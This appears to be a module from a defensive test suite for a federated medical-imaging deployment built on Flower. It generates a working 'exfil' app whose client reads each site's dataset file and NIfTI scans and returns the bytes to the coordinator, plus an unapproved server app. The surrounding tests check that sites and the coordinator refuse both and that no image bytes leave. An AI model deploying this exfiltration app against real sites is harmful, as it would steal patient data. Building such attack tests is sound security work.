"""Home-made Flower apps the attack suite submits: what a compromised operator would run.

* ``exfil``: its ClientApp leaves a marker, reads the site's ``dataset.json`` and every NIfTI file
  under its data directory and sends the bytes back; its ServerApp stores what it receives in the
  coordinator's ``received/`` folder (which the canary scan reads). Approved at the coordinator
  (the operator is the attacker), at no site.
* ``rogue-server``: its ServerApp only leaves a marker. Approved nowhere.

Each is written as a directory with a ``pyproject.toml``; :func:`fab_sha256` is the sha256 that
``flwr run`` computes over the FAB it builds from such a directory (the hash approvals list).
"""

from __future__ import annotations

import hashlib
import io
import json
import time
import zipfile
from pathlib import Path
from typing import Any

from fedhealth.testing.attacks_evidence import Fingerprints, egress_summary, scan
from fedhealth.testing.attacks_lab import OPERATOR, SITES, Lab
from fedhealth.testing.attacks_rows import Row, flwr_try

PYPROJECT = """[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "{name}"
version = "1.0.0"
description = "attack-suite app: must never run at a site"
license = "Apache-2.0"
dependencies = []

[tool.flwr.app]
publisher = "attacker"

[tool.flwr.app.components]
serverapp = "{module}:server"
clientapp = "{module}:client"
"""

EXFIL = '''"""Reads a site's data files and sends them to the coordinator."""

import time
import zipfile
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

MARKERS = Path({markers!r})
RECEIVED = Path({received!r})
client = ClientApp()
server = ServerApp()


@client.train()
def steal(msg, context):
    site = str(context.node_config.get("site-name", context.node_id))
    (MARKERS / f"clientapp-exfil-{{site}}").write_text("the exfil ClientApp ran here")
    root = Path(str(context.node_config["data-dir"]))
    files = [root / "dataset.json", *sorted(root.rglob("*.nii*"))]
    loot = b"".join(p.read_bytes() for p in files)
    return Message(RecordDict({{"loot": ConfigRecord({{"bytes": loot}})}}), reply_to=msg)


@server.main()
def main(grid, context):
    (MARKERS / "serverapp-exfil").write_text("the exfil ServerApp ran")
    nodes, deadline = [], time.monotonic() + 20
    while len(nodes) < 2 and time.monotonic() < deadline:
        nodes = list(grid.get_node_ids())
        time.sleep(0.5)
    msgs = [
        Message(RecordDict({{"ask": ConfigRecord({{"x": 1}})}}), dst_node_id=n,
                message_type="train")
        for n in nodes
    ]
    for i, reply in enumerate(grid.send_and_receive(msgs, timeout=45)):
        out = RECEIVED / f"exfil-reply-{{i}}.bin"
        if reply.has_error():
            out.write_text(f"error reply {{reply.error.code}}: {{reply.error.reason}}")
        else:
            out.write_bytes(reply.content.config_records["loot"]["bytes"])
'''

ROGUE_SERVER = '''"""A ServerApp the coordinator never approved."""

from pathlib import Path

from flwr.app import Message
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

MARKERS = Path({markers!r})
client = ClientApp()
server = ServerApp()


@client.train()
def train(msg, context):
    (MARKERS / "clientapp-rogue-server").write_text("ran")
    return Message(msg.content, reply_to=msg)


@server.main()
def main(grid, context):
    (MARKERS / "serverapp-rogue-server").write_text("the unapproved ServerApp ran")
'''


def write_apps(root: Path, markers: Path, received: Path) -> dict[str, Path]:
    """Write the attack apps under ``root``.

    Parameters
    ----------
    root : Path
        Directory for the apps (``root/exfil``, ``root/rogue-server``).
    markers : Path
        Where their code leaves a marker file when it runs.
    received : Path
        The coordinator's folder for what the exfil ServerApp receives.

    Returns
    -------
    dict of str to Path
        App name -> its directory.
    """
    apps = {
        "exfil": (
            "fhexfil",
            "exfil_app",
            EXFIL.format(markers=str(markers), received=str(received)),
        ),
        "rogue-server": ("fhrogue", "rogue_app", ROGUE_SERVER.format(markers=str(markers))),
    }
    out = {}
    for key, (name, module, source) in apps.items():
        app = root / key
        app.mkdir(parents=True, exist_ok=True)
        (app / "pyproject.toml").write_text(PYPROJECT.format(name=name, module=module))
        (app / f"{module}.py").write_text(source)
        out[key] = app
    return out


def freeze_release(project: Path, dest: Path) -> Path:
    """Freeze the project as the operator releases it: the files of its FAB, built once.

    ``flwr run`` builds the FAB from a directory each time; from a source tree that is being
    edited the hash would drift between approval and launch. The suite approves and launches
    this frozen copy instead, as a consortium approves one release.

    Parameters
    ----------
    project : Path
        The fedhealth project (``pyproject.toml``, ``server/``, ``clients/``, ``fedhealth/``).
    dest : Path
        Directory for the release (created).

    Returns
    -------
    Path
        ``dest``, which builds to one fixed FAB (:func:`fab_sha256`).
    """
    from flwr.cli.build import build_fab_from_disk

    with zipfile.ZipFile(io.BytesIO(build_fab_from_disk(project))) as fab:
        for name in fab.namelist():
            if name.startswith(".info/"):  # Flower's own manifest, rebuilt with the FAB
                continue
            target = dest / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(fab.read(name))
    return dest


def fab_sha256(app: Path) -> str:
    """Hash the FAB ``flwr run`` builds from ``app`` (what approvals list).

    Parameters
    ----------
    app : Path
        A Flower app directory (its ``pyproject.toml``).

    Returns
    -------
    str
        64 hex digits.
    """
    from flwr.cli.build import build_fab_from_disk

    return hashlib.sha256(build_fab_from_disk(app)).hexdigest()


def submit(lab: Lab, app: Path, timeout: float = 150.0) -> tuple[int | None, str, str]:
    """Submit ``app`` through the operator's own Control API and wait for it to finish.

    Parameters
    ----------
    lab : Lab
        The consortium.
    app : Path
        The app directory.
    timeout : float, optional
        Seconds to wait for a finished status (default 150).

    Returns
    -------
    tuple of (int or None, str, str)
        The run id (None when the submission itself was refused), its last status, and what
        the submission said.
    """
    got = flwr_try(lab.operator_env, ["run", str(app), OPERATOR], timeout=120)
    if not got["ok"]:
        return None, "not submitted", got["said"]
    run_id = int(got["answer"]["run-id"])
    status, deadline = "unknown", time.monotonic() + timeout
    while time.monotonic() < deadline:
        listed = flwr_try(lab.operator_env, ["ls", OPERATOR, "--run-id", str(run_id)])
        runs = listed["answer"].get("runs", []) if listed["ok"] else []
        status = str(runs[0].get("status", "unknown")) if runs else "unknown"
        if status.startswith("finished"):
            break
        time.sleep(2.0)
    return run_id, status, got["said"]


def site_records(lab: Lab, site: str, sha256: str) -> list[dict[str, Any]]:
    """Read the site's own app decisions (``apps.jsonl`` under its state) about FAB ``sha256``."""
    out = []
    for path in sorted(lab.site_dir(site).rglob("apps.jsonl")):
        for line in path.read_text().splitlines():
            try:
                entry = json.loads(line)
            except ValueError:
                continue
            if isinstance(entry, dict) and entry.get("sha256") == sha256:
                out.append(entry)
    return out


def unapproved_site_app(lab: Lab, app: Path, prints: Fingerprints) -> Row:
    """Row 6: the operator (compromised) runs an app no site approved; the sites refuse it."""
    sha = fab_sha256(app)
    row = Row(
        "unapproved app at a site",
        f"operator's own Control API runs a home-made app (FAB {sha[:12]}) whose ClientApp "
        "reads the site's data files and sends them back (approved at the coordinator only)",
        "each site refuses the FAB before any of its code runs (Flower's FAB verification "
        "error); no marker, no data bytes back",
    )
    run_id, status, said = submit(lab, app)
    server_ran = (lab.markers / "serverapp-exfil").exists()
    client_marks = sorted(p.name for p in lab.markers.glob("clientapp-exfil-*"))
    replies = sorted(lab.received.glob("exfil-reply-*"))
    loot = [p.name for p in replies if not p.read_bytes().startswith(b"error reply")]
    records = {s: site_records(lab, s, sha) for s in SITES}
    refusals = {s: [e for e in r if e.get("decision") == "refused"] for s, r in records.items()}
    _, _, hits = scan([lab.received], prints)
    row.evidence += [
        f"Flower run {run_id}: {status}" + ("" if run_id else f" ({said})"),
        f"exfil ServerApp ran at the coordinator: {server_ran}",
        f"ClientApp markers: {client_marks or 'none'}",
        "replies received: "
        + ("; ".join(p.read_text(errors="replace")[:120] for p in replies) or "none"),
        "site app records: "
        + "; ".join(f"{s}: {[e.get('decision') for e in r] or 'none'}" for s, r in records.items()),
        f"canary/image windows in what came back: {len(hits)}",
    ]
    if not server_ran and not client_marks:
        row.happened = "the coordinator did not run it, so no site was asked"
        row.evidence.append("cannot show the site gate: approve the app at the coordinator")
        return row  # refused stays None: the site's defence was not exercised
    row.refused = not client_marks and not loot and not hits and all(refusals.values())
    row.happened = (
        "every site refused it before its code ran"
        if row.refused
        else f"app code ran at {client_marks or '-'}; data back: {loot or '-'}"
    )
    return row


def unapproved_server_app(lab: Lab, app: Path) -> Row:
    """Row 7: a ServerApp the coordinator never approved is submitted by the operator."""
    sha = fab_sha256(app)
    row = Row(
        "unapproved ServerApp",
        f"operator submits a ServerApp (FAB {sha[:12]}) not in coordinator.yaml approved_apps",
        "the coordinator refuses to execute it; its marker never appears",
    )
    run_id, status, said = submit(lab, app)
    marker = lab.markers / "serverapp-rogue-server"
    logs = "\n".join(
        p.read_text(errors="replace")
        for p in [lab.root / "coordinator.log", *lab.coord_dir.rglob("*.jsonl")]
        if p.is_file()
    )
    mentions = [ln.strip()[:200] for ln in logs.splitlines() if sha[:12] in ln or sha in ln]
    row.evidence += [
        f"Flower run {run_id}: {status}" + ("" if run_id else f" ({said})"),
        f"marker {marker.name}: {'PRESENT' if marker.exists() else 'absent'}",
        f"coordinator log lines naming the FAB: {mentions[-1] if mentions else 'none'}",
    ]
    row.refused = not marker.exists() and status != "finished:completed"
    row.happened = "refused, never ran" if row.refused else f"ran ({status})"
    return row


def exfiltration_scan(lab: Lab, prints: Fingerprints, model_bytes: int) -> Row:
    """Row 11: nothing the coordinator holds carries a byte sequence of site-0's images."""
    row = Row(
        "data exfiltration (canary)",
        "scan everything at the coordinator (SuperLink database incl. freed pages, logs, run "
        f"dir, received files) for any 23-byte run of site-0's {len(prints.blobs) - 2} image "
        "files (stored and decompressed) and its canary; check each site's egress log",
        "no window found; every reply at most the size of a model update",
    )
    files, size, hits = scan(
        [lab.coord_dir, lab.runs, lab.root / "coordinator.log", lab.root / "launch.log"], prints
    )
    row.evidence.append(f"scanned {files} files, {size / 1e6:.1f} MB: {len(hits)} hits")
    row.evidence += hits[:5]
    bound = int(model_bytes * 1.05) + 64 * 1024
    oversize = []
    for site in SITES:
        eg = egress_summary(lab.site_dir(site) / "state" / "egress.jsonl")
        row.evidence.append(
            f"{site} egress: {eg['replies']} replies {eg['types']}, {eg['bytes']} bytes, "
            f"largest {eg['max_bytes']} (model {model_bytes}, bound {bound})"
        )
        if eg["max_bytes"] > bound or eg["replies"] == 0:
            oversize.append(site)
    row.refused = not hits and not oversize
    row.happened = (
        "no image byte sequence left site-0"
        if row.refused
        else f"hits {len(hits)}; egress missing/oversize at {oversize}"
    )
    return row
